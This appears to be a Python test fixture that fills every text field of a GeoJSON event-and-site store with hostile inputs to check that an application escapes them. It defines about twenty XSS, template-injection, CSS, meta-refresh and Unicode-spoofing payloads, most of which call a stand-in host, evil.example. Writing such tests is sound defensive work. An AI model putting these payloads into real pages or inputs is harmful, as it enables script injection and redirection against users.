"""Hostile texts, and a store in which every text is one of them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

_RUN = "top.__hits=(top.__hits||0)+1;fetch('http://evil.example/ran')"

PAYLOADS: dict[str, str] = {
    "image": f'<img src="http://evil.example/i.png" onerror="{_RUN}">',
    "script": f"<script>{_RUN}</script>",
    "script-end": f"</script><script>{_RUN}</script>",
    "attribute": f'" autofocus onfocus="{_RUN}" onmouseover="{_RUN}" x="',
    "attribute-single": f"' autofocus onfocus='{_RUN}' onmouseover='{_RUN}' x='",
    "svg": f'"><svg onload="{_RUN}"><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "template-literal": f"${{{_RUN}}}",
    "template-break": f"`+({_RUN})+`",
    "template-escape": f"\\`${{{_RUN}}}\\`",
    "string-break": f"';{_RUN};//\";{_RUN};//",
    "markdown-image": "![x](http://evil.example/m.png)",
    "markdown-link": f"[x](javascript:{_RUN}) <javascript:{_RUN}>",
    "streamlit-markup": f":material/home: :red[x] $\\href{{javascript:{_RUN}}}{{x}}$",
    "jinja": "{{ 7 * 7 }}{% for x in () %}{% endfor %}{{ self.__init__.__globals__ }}",
    "style": "</style><style>@import url(http://evil.example/s.css);body{background:url(http://evil.example/b.png)}</style>",
    "frame": f'<iframe srcdoc="<script>{_RUN}</script>" src="http://evil.example/f"></iframe><base href="http://evil.example/">',
    "bidi": "\u202e\u2066gnp.exe\u2067\u200f\u202d",
    "controls": "a\u2028b\u2029c\u0007d\u200be\ufeff",
    "entity": f"&lt;img src=x onerror={_RUN}&gt;&#x3c;script&#x3e;",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/r'><link rel=stylesheet href=http://evil.example/l.css>",
}

# Every member of the schema that holds free text, by the name of the record it stands in.
SINKS = (
    *("title", "kind", "date_note", "note", "place.name", "place.country", "place.note", "actor"),
    *("claim.metric", "claim.unit", "claim.text", "claim.by", "claim.via"),
    *("update.heading", "update.source", "update.text", "update.date_note", "passage"),
    *("site.name", "site.note", "ring.label", "ring.note"),
)


def marked(sink: str, name: str) -> str:
    """The text that stands in a sink: a marker that a test can look for, then the payload."""
    return f"[{sink}|{name}] {PAYLOADS[name]}"


def hostile_store(folder: Path) -> Path:
    """A valid store with an event, an update and a site for each payload; two events share a point, one has none."""
    names = list(PAYLOADS)
    document = {
        "type": "FeatureCollection",
        "dateline": {"schema": 1, "title": PAYLOADS["image"], "summary": PAYLOADS["script"], "licence": PAYLOADS["svg"]},
        "updates": [_update(name, index) for index, name in enumerate(names)],
        "features": [_event(name, index) for index, name in enumerate(names)] + [_site(name, index) for index, name in enumerate(names)],
    }
    path = folder / "hostile.geojson"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def _update(name: str, index: int) -> dict[str, Any]:
    return {
        "id": f"u-{name}{PAYLOADS[name]}",
        "heading": marked("update.heading", name),
        "published": f"2021-03-{index + 1:02}",
        "date_basis": "heading",
        "date_note": marked("update.date_note", name),
        "source": marked("update.source", name),
        "url": f"https://evil.example/?{index}",
        "text": f"{marked('update.text', name)}\n\n{marked('passage', name)}",
    }


def _event(name: str, index: int) -> dict[str, Any]:
    placed = index != 3
    update = f"u-{name}{PAYLOADS[name]}"
    claim = {member: marked(f"claim.{member}", name) for member in ("metric", "unit", "text", "by", "via")}
    if len(claim["metric"]) > 100:
        claim["metric"] = claim["metric"][:100]
    return {
        "type": "Feature",
        "id": f"e-{name}{PAYLOADS[name]}",
        "geometry": {"type": "Point", "coordinates": [40 + max(index, 1) % 5, 30 + max(index, 1) // 5]} if placed else None,
        "properties": {
            "record": "event",
            "title": marked("title", name),
            "kind": marked("kind", name)[:100],
            "start": f"2021-03-{index + 1:02}",
            "end": f"2021-03-{index + 1:02}",
            "date_precision": "day",
            "date_basis": "editor",
            "date_note": marked("date_note", name),
            "place": {
                "name": marked("place.name", name),
                "country": marked("place.country", name),
                "precision": "near_town",
                "uncertainty_km": 20 if placed else None,
                "basis": "editor",
                "note": marked("place.note", name),
            },
            "actors": [{"name": marked("actor", name), "role": "attacker"}],
            "claims": [{**claim, "low": 1, "high": None, "stated": None, "update": update}],
            "updates": [update],
            "passages": [{"update": update, "exact": marked("passage", name)}],
            "reported": f"2021-03-{index + 1:02}",
            "note": marked("note", name),
        },
    }


def _site(name: str, index: int) -> dict[str, Any]:
    ring = {"radius_km": 30 + index, "label": marked("ring.label", name), "note": marked("ring.note", name), "update": None}
    return {
        "type": "Feature",
        "id": f"s-{name}{PAYLOADS[name]}",
        "geometry": {"type": "Point", "coordinates": [40 + index % 5, 35 + index // 5]},
        "properties": {"record": "site", "name": marked("site.name", name), "note": marked("site.note", name), "updates": [], "rings": [ring]},
    }
